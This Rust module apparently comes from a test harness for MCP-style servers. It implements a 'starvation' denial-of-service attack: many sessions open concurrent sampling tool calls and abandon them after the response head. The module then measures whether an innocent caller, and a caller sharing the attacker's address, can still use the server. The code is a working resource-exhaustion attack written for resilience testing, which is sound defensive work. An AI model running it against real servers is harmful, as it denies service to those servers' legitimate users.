//! Attack 1, starvation: sessions that declare sampling start many `tools/call`s of a tool that
//! samples, read only each response's head and hang up without answering the sampling request;
//! then an innocent caller opens a new session and calls a trivial tool.

use std::collections::BTreeMap;
use std::time::{Duration, Instant};

use serde_json::{json, Value};

use crate::client::{self, Session};
use crate::server::Server;
use crate::{Args, Outcome};

/// The attackers: sessions declaring sampling, then every sampling call at once, each hung up
/// after its response head. Returns the sessions (alive until dropped, never deleted), the
/// session errors and the heads, tallied.
pub(crate) async fn fill(
    server: &Server,
    args: &Args,
) -> (Vec<Session>, BTreeMap<String, u64>, BTreeMap<String, u64>) {
    let head_cap = Duration::from_millis(args.head_timeout_ms);
    // The attackers' sessions, each on its own connection-per-request client.
    let opened = futures::future::join_all(
        (0..args.starve_sessions)
            .map(|i| Session::open(client::fresh_client(args.attacker(i)), &server.url, true)),
    )
    .await;
    let mut sessions = Vec::new();
    let mut open_errors = BTreeMap::<String, u64>::new();
    for s in opened {
        match s {
            Ok(s) => sessions.push(s),
            Err(e) => *open_errors.entry(e).or_default() += 1,
        }
    }
    // Every call at once; each reads the head and drops the response, which closes its connection.
    let calls = sessions.iter().flat_map(|s| {
        (0..args.starve_calls).map(move |i| {
            let req = client::post(
                &s.client,
                &s.url,
                Some(&s.id),
                client::call_frame(
                    i as u64 + 1,
                    &args.sample_tool,
                    &args.sample_arguments(format!("attack {i}")),
                ),
            );
            async move {
                match tokio::time::timeout(head_cap, req.send()).await {
                    Ok(Ok(resp)) => format!("HTTP {}", resp.status().as_u16()),
                    Ok(Err(e)) => format!("error: {}", error_kind(&e)),
                    Err(_) => format!("no head within {} ms", head_cap.as_millis()),
                }
            }
        })
    });
    let mut heads = BTreeMap::<String, u64>::new();
    for h in futures::future::join_all(calls).await {
        *heads.entry(h).or_default() += 1;
    }
    (sessions, open_errors, heads)
}

/// Run the starvation attack against `server`.
pub(crate) async fn run(server: &Server, args: &Args) -> Result<Outcome, String> {
    let t0 = Instant::now();
    let (sessions, open_errors, heads) = fill(server, args).await;
    let attack_ms = t0.elapsed().as_secs_f64() * 1e3;
    let memory = server.memory_kib();
    let trivial: Value = args.trivial_arguments()?;
    let cap = Duration::from_millis(args.probe_timeout_ms);
    let probe = client::probe(
        args.innocent(),
        &server.url,
        &args.trivial_tool,
        &trivial,
        cap,
    )
    .await;
    // Then a caller from the first attacker's address (another user behind the same NAT, or the
    // attacker itself): a server that caps callers by address may refuse it, and should say so.
    let neighbour = client::probe(
        args.attacker(0),
        &server.url,
        &args.trivial_tool,
        &trivial,
        cap,
    )
    .await;
    // The attackers' sessions live until the innocent caller is done; then they are dropped
    // (never deleted), as an attacker would leave them.
    drop(sessions);
    let summary = format!(
        "{} sessions x {} sampling calls from {} hung up after the head ({}); fresh session + {} from {}: {}; from {}: {}",
        args.starve_sessions,
        args.starve_calls,
        addresses(args),
        counts(&heads),
        args.trivial_tool,
        args.innocent(),
        probe.describe(),
        args.attacker(0),
        neighbour.describe(),
    );
    Ok(Outcome {
        params: json!({
            "sessions": args.starve_sessions,
            "calls_per_session": args.starve_calls,
            "sample_tool": args.sample_tool,
            "trivial_tool": args.trivial_tool,
            "head_timeout_ms": args.head_timeout_ms,
            "probe_cap_ms": args.probe_timeout_ms,
            "attack_from": args.attack_from,
        }),
        result: json!({
            "sessions_opened": args.starve_sessions - open_errors.values().sum::<u64>() as usize,
            "session_errors": open_errors,
            "heads": heads,
            "attack_ms": client::round1(attack_ms),
            "rss_kib": memory.map(|m| m.0),
            "probe": probe.json(),
            "probe_from_attacker_address": neighbour.json(),
        }),
        summary,
    })
}

/// The attackers' addresses, for summaries: `127.0.0.1`, or `8 addresses (127.0.1.1, ...)`.
pub(crate) fn addresses(args: &Args) -> String {
    match args.attack_from.as_slice() {
        [one] => one.to_string(),
        many => format!("{} addresses ({}, ...)", many.len(), many[0]),
    }
}

/// A short name for a request error (the full text repeats the URL).
pub(crate) fn error_kind(e: &reqwest::Error) -> &'static str {
    if e.is_connect() {
        "connect"
    } else if e.is_timeout() {
        "timeout"
    } else if e.is_body() || e.is_decode() {
        "body"
    } else if e.is_request() {
        "request (connection closed or reset)"
    } else {
        "other"
    }
}

/// `N x what, ...` of a tally.
pub(crate) fn counts(tally: &BTreeMap<String, u64>) -> String {
    if tally.is_empty() {
        return "none".into();
    }
    tally
        .iter()
        .map(|(k, n)| format!("{n} x {k}"))
        .collect::<Vec<_>>()
        .join(", ")
}
